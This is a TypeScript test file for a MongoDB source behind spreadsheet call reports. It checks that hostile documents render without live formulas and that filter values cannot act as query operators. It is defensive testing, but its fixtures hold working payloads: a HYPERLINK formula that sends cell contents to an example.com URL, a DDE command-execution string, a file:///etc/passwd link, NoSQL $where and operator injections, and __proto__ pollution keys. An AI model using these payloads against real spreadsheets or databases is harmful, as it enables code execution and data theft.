import { BSON } from 'mongodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseLoadMap } from '../../../src/mapping/parse-load-map.ts';
import { CHUNK_ROWS, type Chunk, cellAt } from '../../../src/reports/chunk.ts';
import { datasetOf } from '../../../src/reports/dataset.ts';
import { createRowRenderer } from '../../../src/reports/render/row-renderer.ts';
import type { ForeignPlace, Only } from '../../../src/sources/foreign-source.ts';
import { openMongo } from '../../../src/sources/mongodb/mongodb-source.ts';
import { column } from '../../render/support/sample.ts';
import { documentOf, type MongoStub, startMongoStub } from './support/mongo-stub.ts';
import { connectionTo } from './support/orders.ts';

/** Documents that somebody else wrote: whatever they hold, a cell is a text, a number or a time. */

const DAY = { start: Date.UTC(2026, 2, 1), end: Date.UTC(2026, 2, 2) };
const TEXTS = ['caller', 'callee', 'queue', 'agent', 'trunk'] as const;

const MAP = {
  fields: {
    ...{ external_id: 'id', started_at: 'at', ended_at: 'at' },
    ...{ disposition: { value: 'answered' }, talk_seconds: 'talk' },
    ...Object.fromEntries(TEXTS.map((field) => [field, field])),
    trunk: 'nested.deep.trunk',
  },
};

function callPlace(owner: string): ForeignPlace {
  return {
    ...{ dataset: 'calls', from: 'calls', map: parseLoadMap(MAP, datasetOf('calls')) },
    ...{ anchorColumn: 'at', keyColumn: 'id', updatedColumn: null },
    only: { column: 'company', equals: owner },
  };
}

let stub: MongoStub;
beforeAll(async () => {
  stub = await startMongoStub();
});
afterAll(() => stub.close());

const serialized = (document: BSON.Document): Buffer => {
  const bytes = BSON.serialize(document, { checkKeys: false });
  return Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
};
const textValue = (content: Buffer): Buffer => {
  const bytes = Buffer.concat([Buffer.alloc(4), content, Buffer.from([0])]);
  bytes.writeInt32LE(content.length + 1, 0);
  return bytes;
};
/** The value of `v` in a document, as its bytes. */
const valueBytes = (value: unknown): readonly [number, Buffer] => {
  if (value === undefined) return [0x06, Buffer.alloc(0)];
  const bytes = serialized({ v: value });
  return [bytes[4], bytes.subarray(7, -1)];
};

const FORMULA = { formula: 'HYPERLINK("http://example.com/?"&A1,"x")', result: 1 };
const ODD: readonly unknown[] = [
  FORMULA,
  { text: 'x', hyperlink: 'file:///etc/passwd' },
  { richText: [{ text: '=1+1' }] },
  ['=1+1', FORMULA],
  { $where: 'sleep(1000)', $ne: null, 'a.b': 1, constructor: { prototype: 1 } },
  JSON.parse('{"__proto__":{"formula":"=1+1"}}'),
  "=cmd|' /C calc'!A0",
  '@SUM(A1)',
  '\u{1F600}\u202e\ufeff\uffff',
  Number.NaN,
  Number.POSITIVE_INFINITY,
  -0,
  1e21,
  BSON.Long.MAX_VALUE,
  BSON.Decimal128.fromString('9.999999999999999999999999999999999E+6144'),
  BSON.Decimal128.fromString('NaN'),
  new Date(8.64e15),
  new Date(-62_135_596_800_000),
  BSON.Long.MIN_VALUE,
  new BSON.ObjectId('0123456789abcdef01234567'),
  new BSON.Binary(Buffer.from('bytes')),
  new BSON.BSONRegExp('^=', 'i'),
  new BSON.Code('function () { return "=1" }', { a: 1 }),
  new BSON.MinKey(),
  new BSON.MaxKey(),
  new BSON.Timestamp({ t: 1, i: 2 }),
  true,
  null,
  undefined,
];
/** A text that is no UTF-8. */
const BROKEN = textValue(Buffer.from([0x3d, 0xff, 0xfe, 0xed, 0xa0, 0x80, 0x41]));

function hostile(index: number): Buffer {
  const pick = (shift: number) => ODD[(index * 7 + shift * 5) % ODD.length];
  const elements: (readonly [number, string, Buffer])[] = [
    [0x02, 'company', textValue(Buffer.from('mine'))],
    [0x02, 'id', textValue(Buffer.from(`call-${index}`))],
    [0x09, 'at', valueBytes(new Date(DAY.start + index))[1]],
    [0x02, '$where', textValue(Buffer.from('1'))],
    [0x03, '__proto__', serialized({ caller: FORMULA })],
  ];
  TEXTS.slice(0, 4).forEach((field, place) => {
    if (place === 0 && index % 11 === 0) elements.push([0x02, field, BROKEN]);
    else elements.push([valueBytes(pick(place))[0], field, valueBytes(pick(place))[1]]);
  });
  const [type, value] = valueBytes(pick(4));
  const deep = documentOf([[type, 'trunk', value]]);
  elements.push([0x03, 'nested', documentOf([[0x03, 'deep', deep]])]);
  return documentOf(elements);
}

describe('5,000 hostile documents', () => {
  it('come as 5,000 rows whose cells in a workbook are no formula, and nothing breaks', async () => {
    const documents = Array.from({ length: 5_000 }, (_, index) => hostile(index));
    // The stub need not understand them to give them.
    stub.collections.set('calls', documents);
    const source = openMongo(connectionTo(stub.host), callPlace('mine'));
    const chunks: Chunk[] = [];
    const request = { tenantId: 'mine', dataset: 'calls' as const, window: DAY };
    await source.read(
      { ...request, signal: AbortSignal.timeout(60_000) },
      async ({ chunks: given }) => {
        for await (const chunk of given) chunks.push(chunk);
      },
    );
    await source.close();
    expect(chunks.reduce((sum, { rows }) => sum + rows, 0)).toBe(5_000);
    expect(chunks.every(({ rows }) => rows <= CHUNK_ROWS)).toBe(true);
    const columns = TEXTS.map((key) => column(key, 'text'));
    const renderer = createRowRenderer({ form: 'xlsx', columns, locale: 'en' } as never, {
      name: 'UTC',
      stretches: [],
    });
    for (const chunk of chunks) {
      const xml = renderer.render(chunk, null, null).bytes.toString('utf8');
      expect(xml).not.toMatch(/<f[ >/]|<hyperlink/);
      expect(xml).toContain('HYPERLINK');
    }
    expect(({} as Record<string, unknown>)['caller']).toBeUndefined();
  }, 60_000);
});

describe('200 values that would be operators', () => {
  it('are texts that no row has, wherever they come in', async () => {
    const words = [
      '$ne',
      '$gt',
      '$regex',
      '$where',
      '$expr',
      '$in',
      '$nin',
      '$exists',
      '$not',
      '$or',
    ];
    const payloads = words.flatMap((word) => [
      ...[`{"${word}":null}`, `{"${word}":""}`, `{"${word}":[1]}`, word, `${word}:1`],
      ...[
        `'; return true; //${word}`,
        `mine","${word}":"`,
        `mine\n${word}`,
        `.*${word}`,
        `^m|${word}`,
      ],
      ...[
        `[${word}]`,
        `\\u0024${word.slice(1)}`,
        `${word}.company`,
        `company.${word}`,
        ` mine ${word}`,
      ],
      ...[`MINE${word}`, `mine${word}`, `*${word}`, `%${word}`, `(?:)${word}`],
    ]);
    expect(payloads.length).toBe(200);
    stub.collections.set('calls', (stub.collections.get('calls') ?? []).slice(0, 50));
    const ways: Only[] = payloads.flatMap((payload, index) => {
      const equals = { column: 'company', equals: payload };
      return index % 4 === 0 ? [equals, { column: 'company', startsWith: payload }] : [equals];
    });
    const rowsOf = async (only: Only) => {
      const source = openMongo(connectionTo(stub.host), { ...callPlace('mine'), only });
      const [version] = await source.versions({
        ...{ tenantId: 'mine', dataset: 'calls', windows: [DAY] },
        signal: AbortSignal.timeout(60_000),
      });
      await source.close();
      return version.rows;
    };
    let rows = 0;
    // Each has a connection of its own.
    for (let at = 0; at < ways.length; at += 25) {
      const found = await Promise.all(ways.slice(at, at + 25).map(rowsOf));
      rows += found.reduce((sum, each) => sum + each, 0);
    }
    expect(rows).toBe(0);
  }, 120_000);

  it('and paths that would be operators are refused before anything is asked', () => {
    for (const path of ['$where', 'a.$ne', '', 'a..b', '$expr.x', 'a\0b']) {
      const place = { ...callPlace('mine'), only: { column: path, equals: 'x' } };
      expect(() => openMongo(connectionTo(stub.host), place), path).toThrow('expected names');
    }
  });
});

describe('values that a report must have exactly', () => {
  it('are exact: 64-bit numbers in texts, decimals, instants; NaN is none', async () => {
    stub.collections.set('calls', [
      serialized({
        ...{ company: 'mine', id: 'x', at: new Date(DAY.start), talk: BSON.Long.fromNumber(61) },
        ...{ caller: BSON.Long.MAX_VALUE, callee: BSON.Decimal128.fromString('1.10E+3') },
        ...{ queue: Number.NaN, agent: { b: 1, a: [true] } },
      }),
    ]);
    const source = openMongo(connectionTo(stub.host), callPlace('mine'));
    const rows: Record<string, unknown>[] = [];
    const request = { tenantId: 'mine', dataset: 'calls' as const, window: DAY };
    await source.read({ ...request, signal: AbortSignal.timeout(60_000) }, async ({ chunks }) => {
      for await (const { columns } of chunks) {
        rows.push(Object.fromEntries([...columns].map(([key, of]) => [key, cellAt(of, 0)])));
      }
    });
    await source.close();
    expect(rows[0]).toMatchObject({
      ...{ caller: '9223372036854775807', callee: '1100', queue: null },
      ...{ agent: '{"b":1,"a":[true]}', talk_seconds: 61 },
    });
  });
});
